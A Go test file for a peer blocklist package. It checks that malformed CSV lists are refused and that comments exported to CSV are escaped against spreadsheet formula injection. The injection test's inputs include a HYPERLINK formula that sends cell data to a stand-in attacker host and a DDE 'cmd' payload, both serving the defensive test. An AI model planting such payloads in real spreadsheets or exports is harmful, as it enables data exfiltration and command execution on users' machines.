package peer

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/vorbild/vorbild/internal/fault"
)

// A list in which every line is wrong is refused as soon as it is clear that it is none, and costs no more than another.
func TestListOfMistakes(t *testing.T) {
	t.Parallel()
	for name, wrong := range map[string]string{"quotes": "a\"b\n", "columns": "a,,,,,,\n"} {
		_, _, mistakes, err := read(strings.Repeat(wrong, MaxList/len(wrong)), BareByForm)
		if !fault.Is(err, fault.Invalid) || len(mistakes) > 0 {
			t.Errorf("%s: %d mistakes, %v", name, len(mistakes), err)
		}
		_, _, mistakes, err = read("peer.example\n"+strings.Repeat(wrong, MaxListRules/2), BareByForm)
		if err != nil || len(mistakes) != MaxListRules/2 || mistakes[0].Line != 2 || mistakes[0].Text == "" {
			t.Errorf("%s: %d mistakes, %v", name, len(mistakes), err)
		}
	}
}

// What others wrote into a comment is calculated by nobody's program for tables, and comes back as it was.
func TestNoFormulas(t *testing.T) {
	t.Parallel()
	comments := []string{`=HYPERLINK("https://evil.example/"&A1)`, "+49 431 1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "'quoted'", "-", ""}
	for _, comment := range comments {
		var b bytes.Buffer
		if err := Write(&b, []Rule{{Domain: "peer.example", Severity: Suspend, PublicComment: comment, PrivateComment: comment}}, true); err != nil {
			t.Fatal(err)
		}
		cells, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range cells[1] {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("%q stands in a cell as %q", comment, cell)
			}
		}
		entries, _, _, err := read(b.String(), BareByForm)
		if err != nil || len(entries) != 1 {
			t.Fatalf("%d entries, %v", len(entries), err)
		}
		if rule, mistake := entries[0].on(Rule{}); mistake != nil || rule.PublicComment != comment || rule.PrivateComment != comment {
			t.Errorf("%q came back as %q and %q", comment, rule.PublicComment, rule.PrivateComment)
		}
	}
}
